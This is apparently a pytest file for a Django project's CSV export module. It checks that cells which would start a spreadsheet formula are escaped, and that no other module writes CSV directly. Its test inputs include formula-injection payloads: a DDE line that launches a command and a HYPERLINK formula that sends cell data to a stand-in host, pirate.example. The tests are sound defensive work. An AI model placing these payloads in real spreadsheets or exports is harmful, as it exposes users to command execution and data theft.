"""The one CSV writer (core.csv_export) and that no module writes CSV another way."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from hypothesis import example, given
from hypothesis import strategies as st

from enfance.core.csv_export import FORMULA_STARTS, csv_lines, csv_response, safe_cell

ROOT = Path(settings.BASE_DIR)
WRITER = ROOT / "enfance" / "core" / "csv_export.py"


def read(lines) -> list[list[str]]:
    text = "".join(lines)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


@pytest.mark.parametrize(
    "typed",
    [
        "=1+1",
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("http://pirate.example/?"&A1;"Voir")',
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_text(typed):
    assert safe_cell(typed) == f"'{typed}"
    assert read(csv_lines([[typed]])) == [[f"'{typed}"]]


def test_plain_values_and_numbers_are_kept():
    assert safe_cell("Marie") == "Marie"
    assert safe_cell(None) == ""
    assert safe_cell(-3) == "-3"
    assert safe_cell(Decimal("-1.5")) == "-1.5"
    assert safe_cell("a;b") == "a;b"


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=4))
@example([["a\r\nb", "\r", "x\ny", '"', ";"]])
def test_every_cell_comes_back_whole_and_none_starts_a_formula(rows):
    cells = read(csv_lines(rows))
    # A delimiter, a quote or a line break inside a value never makes a new cell or a new row.
    assert [len(row) for row in cells] == [len(row) for row in rows]
    for typed_row, read_row in zip(rows, cells, strict=True):
        for typed, cell in zip(typed_row, read_row, strict=True):
            assert not cell.startswith(FORMULA_STARTS)
            assert cell in (typed, f"'{typed}")


def test_every_cell_is_quoted_with_semicolons_between():
    lines = list(csv_lines([["Prénom", "Nom"], ["Zoé", 'Dit "la"']]))
    assert lines == ["\ufeff", '"Prénom";"Nom"\r\n', '"Zoé";"Dit ""la"""\r\n']


def test_the_response_streams_a_download():
    response = csv_response(iter([["a"], ["=b"]]), filename="essai.csv")
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="essai.csv"'
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    assert content == '"a"\r\n"\'=b"\r\n'


def _writes_csv(tree: ast.AST) -> list[int]:
    """Lines that write CSV without the shared writer: csv.writer / csv.DictWriter, however
    imported, or a response declared as text/csv."""
    found = []
    for node in ast.walk(tree):
        raw_writer = (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        imported_writer = (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and bool({alias.name for alias in node.names} & {"writer", "DictWriter", "*"})
        )
        csv_response_type = (
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and "text/csv" in node.value
        )
        if raw_writer or imported_writer or csv_response_type:
            found.append(node.lineno)
    return found


def test_no_module_writes_csv_another_way():
    others = {
        str(path.relative_to(ROOT)): lines
        for directory in ("enfance", "config")
        for path in sorted((ROOT / directory).rglob("*.py"))
        if path != WRITER and (lines := _writes_csv(ast.parse(path.read_text(encoding="utf-8"))))
    }
    assert others == {}, "Écrivez ces fichiers CSV avec enfance.core.csv_export.csv_response."


def test_the_check_sees_a_raw_writer():
    assert _writes_csv(ast.parse("import csv\nw = csv.writer(f)")) == [2]
    assert _writes_csv(ast.parse("from csv import DictWriter")) == [1]
    assert _writes_csv(ast.parse("r = HttpResponse(content_type='text/csv')")) == [1]
    assert _writes_csv(ast.parse("import csv\nr = csv.DictReader(f)")) == []
